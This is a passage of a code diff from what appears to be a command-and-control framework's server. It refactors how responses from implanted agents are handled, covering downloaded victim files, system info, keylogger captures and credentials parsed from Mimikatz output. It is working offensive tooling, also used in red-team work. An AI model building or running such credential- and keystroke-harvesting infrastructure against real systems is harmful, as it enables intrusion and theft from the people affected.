+        addCredential = self.mainMenu.credentials.add_credential
+        for cred in creds:
+            hostname = cred[4]
 
-                if index == "0":
-                    self.save_file(name, path, file_data, filesize)
-                else:
-                    self.save_file(name, path, file_data, filesize, append=True)
-                # update the agent log
-                msg = "file download: %s, part: %s" % (path, index)
-                self.save_agent_log(sessionID, msg)
+            if hostname == "":
+                hostname = agentHostname
 
-        elif responseName == "TASK_DIR_LIST":
-            try:
-                result = json.loads(data.decode('utf-8'))
-                self.update_dir_list(sessionID, result)
-            except ValueError as e:
-                pass
+            addCredential(cred[0], cred[1], cred[2], cred[3], hostname, osDetails, cred[5], time)
 
-            self.update_agent_results_db(sessionID, data)
-            self.save_agent_log(sessionID, data)
 
-        elif responseName == "TASK_GETDOWNLOADS":
-            if not data or data.strip().strip() == "":
-                data = "[*] No active downloads"
+    def _handle_output(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Plain command output, recorded in the results and the agent log.
+        """
+        self.update_agent_results_db(sessionID, data)
+        # update the agent log
+        self.save_agent_log(sessionID, data)
 
-            self.update_agent_results_db(sessionID, data)
-            #update the agent log
-            self.save_agent_log(sessionID, data)
 
-        elif responseName == "TASK_STOPDOWNLOAD":
-            # download kill response
-            self.update_agent_results_db(sessionID, data)
-            #update the agent log
-            self.save_agent_log(sessionID, data)
+    def _handle_error(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Error code response.
+        """
+        message = "\n[!] Received error response from {}".format(sessionID)
+        signal = helpers.signal_json(message, True)
+        dispatcher.send(signal, sender=self._sender(sessionID))
+        self.update_agent_results_db(sessionID, data)
 
-        elif responseName == "TASK_UPLOAD":
-            pass
+        if isinstance(data,bytes):
+            data = data.decode('UTF-8')
+        # update the agent log
+        self.save_agent_log(sessionID, "[!] Error response: " + data)
 
 
-        elif responseName == "TASK_GETJOBS":
+    def _handle_task_sysinfo(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Sys info response, update the agent's host info.
+        """
+        data = data.decode('utf-8')
+        try:
+            # extract appropriate system information, anything past the twelfth field is ignored
+            _, listener, domainname, username, hostname, internal_ip, os_details, high_integrity, process_name, process_id, language, language_version, *_ = data.split("|", 12)
+        except ValueError:
+            message = "[!] Invalid sysinfo response from {}".format(sessionID)
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=self._sender(sessionID))
+        else:
+            high_integrity = 1 if high_integrity == 'True' else 0
 
-            if not data or data.strip().strip() == "":
-                data = "[*] No active jobs"
+            # username = str(domainname)+"\\"+str(username)
+            username = "%s\\%s" % (domainname, username)
 
-            # running jobs
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
+            # update the agent with this new information
+            self.mainMenu.agents.update_agent_sysinfo_db(sessionID, listener=listener, internal_ip=internal_ip, username=username, hostname=hostname, os_details=os_details, high_integrity=high_integrity, process_name=process_name, process_id=process_id, language_version=language_version, language=language)
 
+            values = (listener, internal_ip, username, hostname, os_details, str(high_integrity), process_name, process_id, language, language_version)
+            sysinfo = "".join([label + value + "\n" for label, value in zip(SYSINFO_LABELS, values)])
 
-        elif responseName == "TASK_STOPJOB":
-            # job kill response
-            self.update_agent_results_db(sessionID, data)
+            self.update_agent_results_db(sessionID, sysinfo)
             # update the agent log
-            self.save_agent_log(sessionID, data)
+            self.save_agent_log(sessionID, sysinfo)
 
 
-        elif responseName == "TASK_CMD_WAIT":
-
-            # dynamic script output -> blocking
-            self.update_agent_results_db(sessionID, data)
-
-            # see if there are any credentials to parse
-            time = helpers.get_datetime()
-            creds = helpers.parse_credentials(data)
+    def _handle_task_exit(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Exit command response, the agent is removed.
+        """
+        message = "[!] Agent {} exiting".format(sessionID)
+        signal = helpers.signal_json(message, True)
+        dispatcher.send(signal, sender=self._sender(sessionID))
 
-            if creds:
-                for cred in creds:
+        # update the agent results and log
+        # self.update_agent_results(sessionID, data)
+        self.save_agent_log(sessionID, data)
 
-                    hostname = cred[4]
+        # remove this agent from the cache/database
+        self.remove_agent_db(sessionID)
 
-                    if hostname == "":
-                        hostname = self.get_agent_hostname_db(sessionID)
 
-                    osDetails = self.get_agent_os_db(sessionID)
+    def _handle_task_download(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        File download part.
+        """
+        if isinstance(data, str):
+            data = data.encode('UTF-8')
 
-                    self.mainMenu.credentials.add_credential(cred[0], cred[1], cred[2], cred[3], hostname, osDetails, cred[5], time)
+        parts = data.split(b"|")
+        if len(parts) != 4:
+            message = "[!] Received invalid file download response from {}".format(sessionID)
+            signal = helpers.signal_json(message, True)
+            dispatcher.send(signal, sender=self._sender(sessionID))
+        else:
+            index, path, filesize, file_data = parts
+            index = index.decode('UTF-8')
+            path = path.decode('UTF-8')
+            name = self.get_agent_name_db(sessionID)
 
+            # the file data is decoded as it's saved off
+            if index == "0":
+                self.save_file(name, path, file_data, filesize, encoded=True)
+            else:
+                self.save_file(name, path, file_data, filesize, append=True, encoded=True)
             # update the agent log
-            self.save_agent_log(sessionID, data)
-
-
-        elif responseName == "TASK_CMD_WAIT_SAVE":
+            msg = "file download: %s, part: %s" % (path, index)
+            self.save_agent_log(sessionID, msg)
 
-            # dynamic script output -> blocking, save data
-            name = self.get_agent_name_db(sessionID)
 
-            # extract the file save prefix and extension
-            prefix = data[0:15].strip().decode('UTF-8')
-            extension = data[15:20].strip().decode('UTF-8')
-            file_data = helpers.decode_base64(data[20:])
+    def _handle_task_dir_list(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Directory listing response.
+        """
+        try:
+            result = json.loads(data.decode('utf-8'))
+            self.update_dir_list(sessionID, result)
+        except ValueError as e:
+            pass
 
-            # save the file off to the appropriate path
-            save_path = "%s/%s_%s.%s" % (prefix, self.get_agent_hostname_db(sessionID), helpers.get_file_datetime(), extension)
-            final_save_path = self.save_module_file(name, save_path, file_data)
+        self.update_agent_results_db(sessionID, data)
+        self.save_agent_log(sessionID, data)
 
-            # update the agent log
-            msg = "Output saved to .%s" % (final_save_path)
-            self.update_agent_results_db(sessionID, msg)
-            self.save_agent_log(sessionID, msg)
 
+    def _handle_task_getdownloads(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Active downloads listing.
+        """
+        if not data or data.strip().strip() == "":
+            data = "[*] No active downloads"
 
-        elif responseName == "TASK_CMD_JOB":
-        #check if this is the powershell keylogging task, if so, write output to file instead of screen
-            if keyLogTaskID and keyLogTaskID == taskID:
-                safePath = os.path.abspath("%sdownloads/" % self.mainMenu.installPath)
-                savePath = "%sdownloads/%s/keystrokes.txt" % (self.mainMenu.installPath,sessionID)
-                if not os.path.abspath(savePath).startswith(safePath):
-                    message = "[!] WARNING: agent {} attempted skywalker exploit!".format(self.sessionID)
-                    signal = json.dumps({
-                        'print': True,
-                        'message': message
-                    })
-                    dispatcher.send(signal, sender="agents/{}".format(self.sessionID))
-                    return
+        self.update_agent_results_db(sessionID, data)
+        #update the agent log
+        self.save_agent_log(sessionID, data)
 
-                with open(savePath,"a+") as f:
-                    if isinstance(data, bytes):
-                        data = data.decode('UTF-8')
-                    new_results = data.replace("\r\n","").replace("[SpaceBar]", "").replace('\b', '').replace("[Shift]", "").replace("[Enter]\r","\r\n")
-                    f.write(new_results)
-            else:
-                # dynamic script output -> non-blocking
-                self.update_agent_results_db(sessionID, data)
 
-                # see if there are any credentials to parse
-                time = helpers.get_datetime()
-                creds = helpers.parse_credentials(data)
-                if creds:
-                    for cred in creds:
+    def _handle_task_upload(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Upload response, nothing to record.
+        """
+        pass
 
-                        hostname = cred[4]
 
-                        if hostname == "":
-                            hostname = self.get_agent_hostname_db(sessionID)
+    def _handle_task_getjobs(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Running jobs listing.
+        """
+        if not data or data.strip().strip() == "":
+            data = "[*] No active jobs"
 
-                        osDetails = self.get_agent_os_db(sessionID)
+        # running jobs
+        self.update_agent_results_db(sessionID, data)
+        # update the agent log
+        self.save_agent_log(sessionID, data)
 
-                        self.mainMenu.credentials.add_credential(cred[0], cred[1], cred[2], cred[3], hostname,
-                                                                 osDetails, cred[5], time)
 
-                # update the agent log
-                self.save_agent_log(sessionID, data)
+    def _handle_task_cmd_wait(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Dynamic script output (blocking), parsed for credentials.
+        """
+        self.update_agent_results_db(sessionID, data)
 
-            # TODO: redo this regex for really large AD dumps
-            #   so a ton of data isn't kept in memory...?
-            if isinstance(data,str):
-                data = data.encode("UTF-8")
-            parts = data.split(b"\n")
-            if len(parts) > 10:
-                time = helpers.get_datetime()
-                if parts[0].startswith(b"Hostname:"):
-                    # if we get Invoke-Mimikatz output, try to parse it and add
-                    #   it to the internal credential store
+        # see if there are any credentials to parse
+        time = helpers.get_datetime()
+        creds = helpers.parse_credentials(data)
 
-                    # cred format: (credType, domain, username, password, hostname, sid, notes)
-                    creds = helpers.parse_mimikatz(data)
+        self._add_agent_credentials(sessionID, creds, time)
 
-                    for cred in creds:
-                        hostname = cred[4]
+        # update the agent log
+        self.save_agent_log(sessionID, data)
 
-                        if hostname == "":
-                            hostname = self.get_agent_hostname_db(sessionID)
 
-                        osDetails = self.get_agent_os_db(sessionID)
+    def _handle_task_cmd_wait_save(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Dynamic script output (blocking) saved to a file.
+        """
+        name, hostname, osDetails = self._get_agent_meta(sessionID)
 
-                        self.mainMenu.credentials.add_credential(cred[0], cred[1], cred[2], cred[3], hostname, osDetails, cred[5], time)
+        # extract the file save prefix and extension
+        prefix = data[0:15].strip().decode('UTF-8')
+        extension = data[15:20].strip().decode('UTF-8')
+        file_data = helpers.decode_base64(data[20:])
 
+        # save the file off to the appropriate path
+        save_path = "%s/%s_%s.%s" % (prefix, hostname, helpers.get_file_datetime(), extension)
+        final_save_path = self.save_module_file(name, save_path, file_data)
 
-        elif responseName == "TASK_CMD_JOB_SAVE":
-            # dynamic script output -> non-blocking, save data
-            name = self.get_agent_name_db(sessionID)
+        # update the agent log
+        msg = "Output saved to .%s" % (final_save_path)
+        self.update_agent_results_db(sessionID, msg)
+        self.save_agent_log(sessionID, msg)
 
-            # extract the file save prefix and extension
-            prefix = data[0:15].strip()
-            extension = data[15:20].strip()
-            file_data = helpers.decode_base64(data[20:])
 
-            # save the file off to the appropriate path
-            save_path = "%s/%s_%s.%s" % (prefix, self.get_agent_hostname_db(sessionID), helpers.get_file_datetime(), extension)
-            final_save_path = self.save_module_file(name, save_path, file_data)
+    def _handle_task_cmd_job(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Dynamic script output (non-blocking), keylogger output goes to keystrokes.txt.
+        """
+        # check if this is the powershell keylogging task, if so, write output to file instead of screen
+        if keyLogTaskID and keyLogTaskID == taskID:
+            agentPath = os.path.join(self._safe_download_root, sessionID)
+            if not self._is_safe_download_path(agentPath, "keystrokes.txt"):
+                message = "[!] WARNING: agent {} attempted skywalker exploit!".format(sessionID)
+                signal = helpers.signal_json(message, True)
+                dispatcher.send(signal, sender=self._sender(sessionID))
+                return
 
-            # update the agent log
-            msg = "Output saved to .%s" % (final_save_path)
-            self.update_agent_results_db(sessionID, msg)
-            self.save_agent_log(sessionID, msg)
+            # the keystrokes are cleaned up and written as bytes, no decode/encode round trip
+            if isinstance(data, str):
+                data = data.encode('UTF-8')
+            with open(os.path.join(agentPath, "keystrokes.txt"), "ab") as f:
+                f.write(KEYSTROKE_NOISE.sub(b'', data).replace(b"[Enter]\r", b"\r\n"))
+        else:
+            # dynamic script output -> non-blocking
+            self.update_agent_results_db(sessionID, data)
 
+            # see if there are any credentials to parse
+            time = helpers.get_datetime()
+            creds = helpers.parse_credentials(data)
+            self._add_agent_credentials(sessionID, creds, time)
 
-        elif responseName == "TASK_SCRIPT_IMPORT":
-            self.update_agent_results_db(sessionID, data)
             # update the agent log
             self.save_agent_log(sessionID, data)
 
-        elif responseName == "TASK_IMPORT_MODULE":
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
+        # TODO: redo this regex for really large AD dumps
+        #   so a ton of data isn't kept in memory...?
+        if isinstance(data,str):
+            data = data.encode("UTF-8")
+        # check for more than ten lines without splitting the whole output into a list
+        if data.startswith(b"Hostname:") and data.count(b"\n") >= 10:
+            time = helpers.get_datetime()
+            # if we get Invoke-Mimikatz output, try to parse it and add
+            #   it to the internal credential store
 
-        elif responseName == "TASK_VIEW_MODULE":
-            self.update_agent_results_db(sessionID, data)
-            #update the agent log
-            self.save_agent_log(sessionID, data)
+            # cred format: (credType, domain, username, password, hostname, sid, notes)
+            creds = helpers.parse_mimikatz(data)
+            self._add_agent_credentials(sessionID, creds, time)
 
-        elif responseName == "TASK_REMOVE_MODULE":
-            self.update_agent_results_db(sessionID, data)
-            #update the agent log
-            self.save_agent_log(sessionID, data)
 
-        elif responseName == "TASK_SCRIPT_COMMAND":
+    def _handle_task_cmd_job_save(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        Dynamic script output (non-blocking) saved to a file.
+        """
+        name, hostname, osDetails = self._get_agent_meta(sessionID)
 
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
+        # extract the file save prefix and extension
+        prefix = data[0:15].strip()
+        extension = data[15:20].strip()
+        file_data = helpers.decode_base64(data[20:])
 
-        elif responseName == "TASK_SWITCH_LISTENER":
-            # update the agent listener
-            if isinstance(data, bytes):
-                data = data.decode('UTF-8')
+        # save the file off to the appropriate path
+        save_path = "%s/%s_%s.%s" % (prefix, hostname, helpers.get_file_datetime(), extension)
+        final_save_path = self.save_module_file(name, save_path, file_data)
 
-            listener_name = data[38:]
+        # update the agent log
+        msg = "Output saved to .%s" % (final_save_path)
+        self.update_agent_results_db(sessionID, msg)
+        self.save_agent_log(sessionID, msg)
 
-            self.update_agent_listener_db(sessionID, listener_name)
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
-            message = "[+] Updated comms for {} to {}".format(sessionID, listener_name)
-            signal = json.dumps({
-                'print': False,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
-
-        elif responseName == "TASK_UPDATE_LISTENERNAME":
-            # The agent listener name variable has been updated agent side
-            self.update_agent_results_db(sessionID, data)
-            # update the agent log
-            self.save_agent_log(sessionID, data)
-            message = "[+] Listener for '{}' updated to '{}'".format(sessionID, data)
-            signal = json.dumps({
-                'print': False,
-                'message': message
-            })
-            dispatcher.send(signal, sender="agents/{}".format(sessionID))
 
-        else:
-            print(helpers.color("[!] Unknown response %s from %s" % (responseName, sessionID)))
+    def _handle_task_switch_listener(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        The agent switched to a new listener.
+        """
+        if isinstance(data, bytes):
+            data = data.decode('UTF-8')
+
+        listener_name = data[38:]
+
+        self.update_agent_listener_db(sessionID, listener_name)
+        self.update_agent_results_db(sessionID, data)
+        # update the agent log
+        self.save_agent_log(sessionID, data)
+        message = "[+] Updated comms for {} to {}".format(sessionID, listener_name)
+        self._emit(self._sender(sessionID), {'print': False, 'message': message})
+
+
+    def _handle_task_update_listenername(self, sessionID, taskID, data, keyLogTaskID):
+        """
+        The agent listener name variable has been updated agent side.
+        """
+        self.update_agent_results_db(sessionID, data)
+        # update the agent log
+        self.save_agent_log(sessionID, data)
+        message = "[+] Listener for '{}' updated to '{}'".format(sessionID, data)
+        self._emit(self._sender(sessionID), {'print': False, 'message': message})
+
+
+    # responseName -> handler, see process_agent_packet()
+    _RESPONSE_HANDLERS = {
+        'ERROR': _handle_error,
+        'TASK_SYSINFO': _handle_task_sysinfo,
+        'TASK_EXIT': _handle_task_exit,
+        'TASK_SHELL': _handle_output,
+        'TASK_DOWNLOAD': _handle_task_download,
+        'TASK_DIR_LIST': _handle_task_dir_list,
+        'TASK_GETDOWNLOADS': _handle_task_getdownloads,
+        'TASK_STOPDOWNLOAD': _handle_output,
+        'TASK_UPLOAD': _handle_task_upload,
+        'TASK_GETJOBS': _handle_task_getjobs,
+        'TASK_STOPJOB': _handle_output,
+        'TASK_CMD_WAIT': _handle_task_cmd_wait,
+        'TASK_CMD_WAIT_SAVE': _handle_task_cmd_wait_save,
+        'TASK_CMD_JOB': _handle_task_cmd_job,
+        'TASK_CMD_JOB_SAVE': _handle_task_cmd_job_save,
+        'TASK_SCRIPT_IMPORT': _handle_output,
+        'TASK_IMPORT_MODULE': _handle_output,
+        'TASK_VIEW_MODULE': _handle_output,
+        'TASK_REMOVE_MODULE': _handle_output,
+        'TASK_SCRIPT_COMMAND': _handle_output,
+        'TASK_SWITCH_LISTENER': _handle_task_switch_listener,
+        'TASK_UPDATE_LISTENERNAME': _handle_task_update_listenername,
+    }